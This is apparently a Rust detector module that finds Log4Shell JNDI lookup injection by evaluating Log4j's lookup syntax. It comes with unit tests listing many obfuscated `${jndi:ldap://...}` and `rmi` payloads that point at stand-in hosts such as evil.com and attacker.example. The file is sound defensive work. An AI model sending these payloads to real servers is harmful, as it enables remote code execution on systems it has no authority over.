//! JNDI lookup injection (Log4Shell, CVE-2021-44228). Rather than matching spellings,
//! the Log4j lookup mini-language is evaluated: `${prefix:key:-default}` yields the
//! default, `${lower:..}`/`${upper:..}` change case, `${date:'j'}` yields its quoted
//! literal, other lookups (`${env:..}`, `${sys:..}`, `${hostName}`) yield nothing; nested
//! lookups are resolved inside out. A lookup whose resolved text starts with `jndi:` is
//! reported whatever obfuscation built it. `\uXXXX` escapes are decoded first.

use super::gate::Triggers;
use super::textscan::{hit, push_once, snippet};
use super::{Hit, Value};

const CLASS: &str = "jndi";
const MAX_BYTES: usize = 8192;
const MAX_DEPTH: usize = 16;

/// Lookup prefixes Log4j knows; seeing them in a `${...}` is suspicious on its own.
const LOOKUPS: &[&str] = &[
    "jndi", "env", "sys", "java", "ctx", "main", "lower", "upper", "date", "hostname", "k8s",
    "docker", "spring", "web", "bundle", "log4j", "sd", "marker", "map", "jvmrunargs", "event",
    "base64", "script",
];

#[derive(Default)]
struct State {
    /// Resolved `jndi:` lookups (evidence).
    jndi: Option<String>,
    /// Lookups from `LOOKUPS` or `${:-x}` defaults were seen.
    lookup_syntax: bool,
    /// A lookup was resolved inside another lookup.
    nested: bool,
    /// A lookup resolved to `<name>:<JNDI scheme>:/…` with a mangled name
    /// (`${jnd${upper:1}:ldap://x}`): a JNDI lookup whichever way the name came out.
    scheme: Option<String>,
    work: usize,
}

/// What a value must contain for any rule of this class to match (see `gate`): add a
/// trigger here with every new rule.
pub const TRIGGERS: Triggers = Triggers { bytes: b"$", ..Triggers::NONE };

/// Per-value scan.
pub fn scan(v: &Value<'_>, out: &mut Vec<Hit>) {
    let t = v.text;
    if !t.contains('$') || !(t.contains('{') || t.contains("\\u") || t.contains("\\U") || t.contains('&')) {
        return;
    }
    let bytes = unescape(t.as_bytes().get(..MAX_BYTES).unwrap_or(t.as_bytes()));
    let bytes = brace_entities(&bytes);
    let Some(first) = find_open(&bytes, 0) else { return };
    let since = out.len();
    let mut st = State::default();
    let _ = first;
    let resolved = resolve(&bytes, 0, &mut st);
    let literal = super::textscan::contains_ci(t, "${jndi:");
    // Lookups that assemble `jndi:` outside a lookup (for a second evaluation pass).
    let assembled = st.lookup_syntax && super::textscan::contains_ci(&String::from_utf8_lossy(&resolved), "jndi:");
    if let Some(ev) = st.jndi.or(st.scheme.filter(|_| st.lookup_syntax)) {
        let rule = if literal { "jndi.lookup" } else { "jndi.obfuscated-lookup" };
        push_once(out, since, hit(rule, CLASS, 5, 1, ev));
    } else if literal {
        // Unterminated or otherwise unresolvable, but spelled out.
        push_once(out, since, hit("jndi.lookup", CLASS, 5, 1, snippet(t, super::textscan::find_ci(t, "${jndi:").unwrap_or(0), 100)));
    } else if assembled {
        push_once(out, since, hit("jndi.obfuscated-lookup", CLASS, 5, 1, snippet(&String::from_utf8_lossy(&resolved), 0, 100)));
    } else if st.lookup_syntax && st.nested {
        // `${${::-${::-$${::-j}}}}`: obfuscating lookups nested in each other.
        push_once(out, since, hit("jndi.nested-lookup", CLASS, 5, 1, snippet(&String::from_utf8_lossy(&bytes), first, first + 100)));
    } else if st.lookup_syntax {
        push_once(out, since, hit("jndi.lookup-syntax", CLASS, 3, 1, snippet(&String::from_utf8_lossy(&bytes), first, first + 100)));
    }
}

/// Decodes `\uXXXX` (ASCII only) and `\xHH` escapes, which Java-ish layers often undo.
fn unescape(s: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(s.len());
    let mut i = 0;
    while let Some(&b) = s.get(i) {
        // `$\{` / `\}`: escaped braces some layers unescape.
        if b == b'\\' && matches!(s.get(i + 1), Some(b'{' | b'}')) {
            i += 1;
            continue;
        }
        if b == b'\\' {
            let hexv = |from: usize, n: usize| -> Option<u32> {
                let d = s.get(from..from + n)?;
                u32::from_str_radix(core::str::from_utf8(d).ok()?, 16).ok()
            };
            match s.get(i + 1) {
                Some(b'u' | b'U') => {
                    if let Some(cp) = hexv(i + 2, 4).filter(|&c| c < 0x80) {
                        out.push(cp as u8);
                        i += 6;
                        continue;
                    }
                }
                Some(b'x') => {
                    if let Some(cp) = hexv(i + 2, 2).filter(|&c| c < 0x80) {
                        out.push(cp as u8);
                        i += 4;
                        continue;
                    }
                }
                _ => {}
            }
        }
        out.push(b);
        i += 1;
    }
    out
}

/// `&lbrace;`, `&rbrace;`, `&dollar;` (also without `;`, any case), `&#123;`, `&#x7b;`.
fn brace_entities(s: &[u8]) -> Vec<u8> {
    if !s.contains(&b'&') {
        return s.to_vec();
    }
    const ENTS: &[(&[u8], u8)] = &[
        (b"&lbrace;", b'{'), (b"&rbrace;", b'}'), (b"&dollar;", b'$'), (b"&lbrace", b'{'),
        (b"&rbrace", b'}'), (b"&dollar", b'$'), (b"&#123;", b'{'), (b"&#125;", b'}'),
        (b"&#x7b;", b'{'), (b"&#x7d;", b'}'), (b"&#36;", b'$'), (b"&#x24;", b'$'),
    ];
    let mut out = Vec::with_capacity(s.len());
    let mut i = 0;
    'outer: while let Some(&c) = s.get(i) {
        if c == b'&' {
            for (e, r) in ENTS {
                if s.get(i..i + e.len()).is_some_and(|w| w.eq_ignore_ascii_case(e)) {
                    out.push(*r);
                    i += e.len();
                    continue 'outer;
                }
            }
        }
        out.push(c);
        i += 1;
    }
    out
}

fn find_open(s: &[u8], from: usize) -> Option<usize> {
    let mut i = from;
    while i + 1 < s.len() {
        if s.get(i) == Some(&b'$') && s.get(i + 1) == Some(&b'{') {
            return Some(i);
        }
        i += 1;
    }
    None
}

/// Index of the `}` closing the `${` at `open`, honouring nesting.
fn find_close(s: &[u8], open: usize) -> Option<usize> {
    let mut depth = 0usize;
    let mut i = open + 2;
    while let Some(&b) = s.get(i) {
        if b == b'$' && s.get(i + 1) == Some(&b'{') {
            depth += 1;
            i += 2;
            continue;
        }
        if b == b'}' {
            if depth == 0 {
                return Some(i);
            }
            depth -= 1;
        }
        i += 1;
    }
    None
}

/// Resolves all lookups in `s`, returning the substituted text.
fn resolve(s: &[u8], depth: usize, st: &mut State) -> Vec<u8> {
    let mut out = Vec::with_capacity(s.len());
    let mut i = 0;
    while i < s.len() {
        st.work = st.work.saturating_add(1);
        if st.work > 4 * MAX_BYTES {
            out.extend_from_slice(s.get(i..).unwrap_or_default());
            break;
        }
        let Some(open) = find_open(s, i) else {
            out.extend_from_slice(s.get(i..).unwrap_or_default());
            break;
        };
        out.extend_from_slice(s.get(i..open).unwrap_or_default());
        let Some(close) = find_close(s, open) else {
            // Unterminated: resolve what is inside anyway (the spelling still counts).
            let inner = resolve(s.get(open + 2..).unwrap_or_default(), depth + 1, st);
            check_jndi(&inner, st);
            out.extend_from_slice(b"${");
            out.extend_from_slice(&inner);
            break;
        };
        let inner_raw = s.get(open + 2..close).unwrap_or_default();
        if depth > 0 {
            st.nested = true;
        }
        let inner = if depth < MAX_DEPTH { resolve(inner_raw, depth + 1, st) } else { inner_raw.to_vec() };
        check_jndi(&inner, st);
        out.extend_from_slice(&evaluate(&inner, st));
        i = close + 1;
    }
    out
}

fn check_jndi(inner: &[u8], st: &mut State) {
    let lower: Vec<u8> = inner.iter().take(5).map(|b| b.to_ascii_lowercase()).collect();
    // `jndi:`, or `jndi` assembled by obfuscating lookups even when the colon got lost.
    let hit = lower == b"jndi:" || (st.lookup_syntax && lower.starts_with(b"jndi") && inner.windows(3).any(|w| w == b"://"));
    if hit && st.jndi.is_none() {
        st.jndi = Some(format!("${{{}}}", snippet(&String::from_utf8_lossy(inner), 0, 100)));
    }
    if st.scheme.is_none() && jndi_scheme_after_name(inner) {
        st.scheme = Some(format!("${{{}}}", snippet(&String::from_utf8_lossy(inner), 0, 100)));
    }
}

/// `name:ldap:/…`, `x1:rmi://…`: a short lookup name, then a JNDI provider URL.
fn jndi_scheme_after_name(inner: &[u8]) -> bool {
    let Some(colon) = inner.iter().take(16).position(|&c| c == b':') else { return false };
    if colon == 0 || !inner.get(..colon).is_some_and(|n| n.iter().all(|c| c.is_ascii_alphanumeric())) {
        return false;
    }
    let rest: Vec<u8> = inner.get(colon + 1..).unwrap_or_default().iter().take(10).map(|c| c.to_ascii_lowercase()).collect();
    ["ldap:/", "ldaps:/", "rmi:/", "dns:/", "iiop:/", "corba:/", "nds:/", "nis:/", "iiopname:/"].iter().any(|p| rest.starts_with(p.as_bytes()))
}

/// Value of one resolved lookup body.
fn evaluate(inner: &[u8], st: &mut State) -> Vec<u8> {
    let text = String::from_utf8_lossy(inner);
    let prefix = text.split(':').next().unwrap_or_default().to_ascii_lowercase();
    if LOOKUPS.contains(&prefix.as_str()) && text.contains(':') || text.starts_with(":-") || text.starts_with("::-") {
        st.lookup_syntax = true;
    }
    if prefix == "jndi" {
        // Keep it visible to an enclosing lookup.
        let mut v = b"${".to_vec();
        v.extend_from_slice(inner);
        v.push(b'}');
        return v;
    }
    if let Some(at) = text.find(":-") {
        return text.get(at + 2..).unwrap_or_default().as_bytes().to_vec();
    }
    let rest = text.get(prefix.len() + 1..).unwrap_or_default();
    match prefix.as_str() {
        // Java's case mapping is Unicode-aware (`${upper:ı}` is `I`).
        "lower" => rest.to_lowercase().into_bytes(),
        "upper" => rest.to_uppercase().into_bytes(),
        "date" => rest.chars().filter(|&c| c != '\'').collect::<String>().into_bytes(),
        _ => Vec::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::Part;

    fn rules(text: &str) -> Vec<(&'static str, u32)> {
        let mut out = Vec::new();
        scan(&Value { part: Part::Header, name: "user-agent", text }, &mut out);
        out.iter().map(|h| (h.rule, h.score)).collect()
    }

    #[test]
    fn attacks() {
        for a in [
            "${jndi:ldap://evil.com/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/poc}",
            "${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap:/x/z}",
            "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//x/a}",
            "${${lower:${lower:jndi}}:${lower:rmi}:/x/poc}",
            "$\\u007Bjndi:ldap://evil.com/webshell}",
            "${jndi:dns://${env:COMPUTERNAME}.x/a}",
            "${${upper:j}ndi:ldap://x}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
            "prefix ${jndi:ldap://x",
            "${${lower:jnd}${lower:${upper:ı}}:ldap:/x/z}",
            "$&LBRACE;jndi:ldap://evil.com/webshell}",
            "$\\u0026lbracejndi:ldap://evil.com/webshell}",
            "j${sys:k5:-nD}${lower:i${web:k5:-:}}ldap://x/a",
            // A mangled lookup name that still carries a JNDI provider URL.
            "${jnd${upper:1}:ldap://attacker.example/a}",
            "${jn${lower:D}x:rmi:/attacker.example/a}",
            // Obfuscating lookups nested in each other, whatever they spell.
            "${${::-${::-$${::-j}}}}",
            "${${lower:${upper:x}}}",
        ] {
            assert!(rules(a).iter().any(|(_, s)| *s >= 5), "{a}: {:?}", rules(a));
        }
    }

    #[test]
    fn benign() {
        for b in [
            "Mozilla/5.0 (X11; Linux x86_64)",
            "price ${amount} due",
            "${HOME}/bin",
            "{\"a\":\"${x}\"}",
            "Total: $5 {approx}",
            "jndi is a java api",
            // Spring-style nested placeholders and a plain LDAP URL.
            "${server.port:${PORT:8080}}",
            "${db.url:ldap://directory.example/}",
            "ldap://directory.example/ou=people",
            "${lower:ABC}",
        ] {
            assert!(rules(b).iter().all(|(_, s)| *s < 5), "{b}: {:?}", rules(b));
        }
    }
}
